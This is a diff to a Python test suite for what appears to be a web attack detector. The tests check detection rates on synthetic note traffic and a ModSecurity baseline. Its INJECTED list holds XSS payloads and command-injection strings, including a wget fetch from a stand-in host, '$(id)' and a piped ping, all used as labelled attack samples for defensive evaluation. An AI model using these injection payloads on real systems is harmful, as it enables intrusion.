@@ -271,6 +271,88 @@ def test_the_min_max_learner_stands_beside_and_can_be_left_out(data):
     assert all(d["detector"] != "min/max" for d in card("--baseline", "none", data)[0]["detectors"])
 
 
+WORDS = "garden river yellow window people morning letter kitchen summer mountain paper bottle".split()
+MARKS = [" ", " ", " ", ", ", ". ", " (", ") ", '"', '" ', " = ", "=", "; ", " < ", ">", "/", "*", "#", "%", "-", "! ", "&", "|", ":", "_", "+", "$",
+         "\n", "1", "20", "3 ", "\\", "[", "]", "{", "}", "~", "^", "@"]
+INJECTED = {"xss": ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>"],
+            "cmdi": ["; wget http://e.example/x", "$(id)", "| ping 192.0.2.1"]}
+
+
+def notes(folder, labels, train=1500, test=300, each=80):
+    """Free text with all characters in any order: novelty has nothing to say, so what is found is found by what it reads like."""
+    shop, generator = Shop(21, service="notes"), random.Random(22)
+
+    def exchange(text, **label):
+        made = shop.exchange("POST", "/notes", [["content-type", "application/json"]], json.dumps({"note": text}))
+        return {**made, "label": label}
+
+    def note():
+        return "".join(generator.choice(WORDS) + "".join(generator.choice(MARKS) for _ in range(generator.randrange(1, 5)))
+                       for _ in range(generator.randrange(1, 16)))
+    folder.mkdir()
+    write(folder / "train.jsonl", [exchange(note(), attack=False) for _ in range(train)])
+    write(folder / "test-benign.jsonl", [exchange(note(), attack=False) for _ in range(test)])
+    write(folder / "attacks.jsonl", [exchange(f"{generator.choice(WORDS)} {generator.choice(INJECTED[kind])}", attack=True,
+                                              **{"class": label, "location": "json", "param": "note"})
+                                     for kind, label in labels for _ in range(each)])
+    return folder
+
+
+def left_out(report, name):
+    return next(row for row in report["left_out"] if row["class"] == name)
+
+
+def test_without_its_own_class_an_attack_is_judged_by_the_others(tmp_path):
+    data = notes(tmp_path / "notes", [("xss", "xss"), ("cmdi", "cmdi"), ("xss", "odd")])
+    report, = card("--alpha", "0.01", data)
+    script, shell = left_out(report, "script"), left_out(report, "shell")
+    assert (script["attacks"], shell["attacks"], script["benign"]) == (80, 80, 300)
+    assert script["tpr_novelty"] < 0.1 < 0.9 < script["tpr_likeness"] and script["tpr"] < 0.1
+    assert script["tpr_ci95"][1] < 0.2 and script["fpr_ci95"][0] <= script["fpr"] <= 0.05
+    with_it, without = detector(report, "+ likeness"), detector(report, "+ likeness, own class left out")
+    assert with_it["by_class"]["odd"]["tpr"] > 0.9 and without["by_class"]["odd"] == {"n": 0, "tpr": None}
+    assert (without["pooled"]["attacks"], without["pooled"]["benign"]) == (160, 300)
+    assert without["pooled"]["tpr"] == pytest.approx((script["tpr"] + shell["tpr"]) / 2, abs=1e-6)
+    assert without["pooled"]["false_positives"] == max(script["false_positives"], shell["false_positives"])
+    text = guard("eval", "--alpha", "0.01", data).stdout
+    assert re.search(r"none of likeness is known for: odd \(80\)", text)
+    assert re.search(r"\n  script +0.01 +80 ", text) and "not built\n  own" not in text
+
+
+def test_only_the_class_that_the_label_names_is_left_out(tmp_path):
+    """The same attacks, labelled as the other kind: each is still known by its real class."""
+    report, = card("--alpha", "0.01", notes(tmp_path / "notes", [("xss", "cmdi"), ("cmdi", "xss")]))
+    for name in ("script", "shell"):
+        row = left_out(report, name)
+        assert row["attacks"] == 80 and row["tpr_likeness"] > 0.9
+        assert row["tpr"] > 0.9
+
+
+def test_what_comes_through_a_pipe_is_judged_once(tmp_path):
+    data = notes(tmp_path / "notes", [("xss", "xss")], train=300, test=20, each=5)
+    done = subprocess.run([BIN / "guard", "eval", "--format", "json", "--train", data / "train.jsonl", "--benign", data / "test-benign.jsonl",
+                           "--attacks", "-"], input=(data / "attacks.jsonl").read_text(), capture_output=True, text=True, timeout=300, check=True)
+    report = json.loads(done.stdout)
+    assert "left_out_skipped" in report and report["left_out"] == []
+    assert detector(report, "novelty")["pooled"]["attacks"] == 5
+
+
+def test_the_newest_exchanges_are_learned_when_not_all_are(tmp_path):
+    """A release in the training traffic: who learns its last part knows what is judged."""
+    shop = Shop(31)
+    old, new, test = shop.many(600), shop.many(600), labelled(shop.many(200), "t")
+    for exchange in new + test:
+        exchange["request"]["target"] = "/v2" + exchange["request"]["target"]
+    for order, name in ((old + new, "newest"), (new + old, "oldest")):
+        (tmp_path / name).mkdir()
+        write(tmp_path / name / "train.jsonl", labelled(order, "l"))
+        write(tmp_path / name / "test-benign.jsonl", test)
+    newest, oldest = (card("--alpha", "0.01", "--learn", "500", tmp_path / name)[0] for name in ("newest", "oldest"))
+    assert newest["learned"]["shop"]["exchanges"] == oldest["learned"]["shop"]["exchanges"] == 500
+    assert detector(newest, "novelty")["pooled"]["fpr"] < 0.1
+    assert detector(oldest, "min/max")["pooled"]["fpr"] > 0.9 > 0.1 > detector(newest, "min/max")["pooled"]["fpr"]
+
+
 def curves(mode, *arguments):
     return [json.loads(line) for line in guard("eval", mode, "--format", "json", *arguments).stdout.splitlines()]
 
@@ -323,13 +405,22 @@ def test_gates_merge_in_any_order_and_judge_as_one_learner(data):
         assert kind["same_bytes"] is True and kind["same_verdict"] >= 0.99 and kind["judged"] == 2 * 770
 
 
-def test_modsecurity_is_asked_or_its_absence_told(data):
+def test_modsecurity_is_asked_or_its_absence_told(data, tmp_path):
     report, = card("--baseline", "modsecurity", "--modsecurity-module", "/nowhere/module.so", data)
     assert "/nowhere/module.so" in report["modsecurity_skipped"]
     assert "skipped: " in guard("eval", "--baseline", "modsecurity", "--modsecurity-module", "/nowhere/module.so", data).stdout
     module = os.environ.get("GUARD_MODSECURITY_MODULE", "/usr/lib/nginx/modules/ngx_http_modsecurity_module.so")
+    benign = Shop(41).many(100)
+    for exchange in benign:
+        exchange["request"]["headers"] += [["accept-charset", "utf-8"], ["host", "192.0.2.1"]]
+    benign[0]["request"]["method"] = "DELETE"
+    write(tmp_path / "train.jsonl", labelled(benign, "m"))
+    write(tmp_path / "test-benign.jsonl", benign)
     report, = card("--baseline", "modsecurity", "--modsecurity-module", module, data)
     if "modsecurity_skipped" in report:
         pytest.skip("no ModSecurity to compare with: " + report["modsecurity_skipped"])
     figures = detector(report, "modsecurity")["pooled"]
     assert figures["tpr"] > 0.5 and figures["fpr"] < 0.5
+    assert "900250" in report["modsecurity_policy"]
+    plain, = card("--baseline", "modsecurity", "--modsecurity-module", module, tmp_path)
+    assert detector(plain, "modsecurity")["pooled"]["false_positives"] == 0, "the site's policy is no detection"
